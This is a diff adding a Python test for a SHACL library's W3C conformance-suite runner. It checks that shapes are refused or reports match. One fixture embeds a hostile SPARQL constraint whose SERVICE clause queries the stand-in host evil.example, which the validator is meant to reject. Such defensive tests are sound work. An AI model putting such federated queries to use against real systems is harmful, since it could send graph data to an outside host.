@@ -169,3 +169,31 @@ def test_hostile_shapes_give_one_clear_line_and_exit_2(tmp_path, shapes, what):
         assert out.exit_code == 2, (engine, out.output)
         assert what in out.output, (engine, out.output)
         assert "Traceback" not in out.output and len(out.output.strip().splitlines()) == 1
+
+
+def test_the_suite_runner_reads_failure_tests_and_reports(tmp_path):
+    """The runner of the W3C suite (also for its SHACL-SPARQL part): a test expecting
+    sht:Failure passes when the shapes are refused, a report test when the reports match."""
+    from vrgraph import conformance
+
+    (tmp_path / "manifest.ttl").write_text(PREFIXES + """
+@prefix mf: <http://www.w3.org/2001/sw/DataAccess/tests/test-manifest#> .
+@prefix sht: <http://www.w3.org/ns/shacl-test#> .
+<> a mf:Manifest ; mf:entries ( <refused> <report> ) .
+<refused> a sht:Validate ; mf:action [ sht:dataGraph <data.ttl> ; sht:shapesGraph <bad.ttl> ] ;
+  mf:result sht:Failure .
+<report> a sht:Validate ; mf:action [ sht:dataGraph <data.ttl> ; sht:shapesGraph <good.ttl> ] ;
+  mf:result [ a sh:ValidationReport ; sh:conforms false ; sh:result [
+    sh:focusNode ex:c ; sh:value 12 ; sh:resultSeverity sh:Violation ;
+    sh:sourceShape ex:S ; sh:sourceConstraint ex:C ;
+    sh:sourceConstraintComponent sh:SPARQLConstraintComponent ] ] .
+""")
+    (tmp_path / "data.ttl").write_text(DATA)
+    (tmp_path / "bad.ttl").write_text(PREFIXES + """ex:S sh:targetNode ex:c ; sh:sparql [ sh:select
+        "SELECT $this WHERE { SERVICE <http://evil.example/> { $this ?p ?o } }" ] .""")
+    (tmp_path / "good.ttl").write_text(PREFIXES + """ex:S sh:targetNode ex:c ; sh:sparql ex:C .
+        ex:C sh:select "SELECT $this ?value WHERE { $this <http://example.org/p> ?value }" .""")
+    cases = conformance.cases(tmp_path / "manifest.ttl")
+    assert [c.name.rsplit("/", 1)[-1] for c in cases] == ["refused", "report"]
+    validator = conformance.vrgraph_validator("sparql")
+    assert [conformance.passes(c, validator)[0] for c in cases] == [True, True]
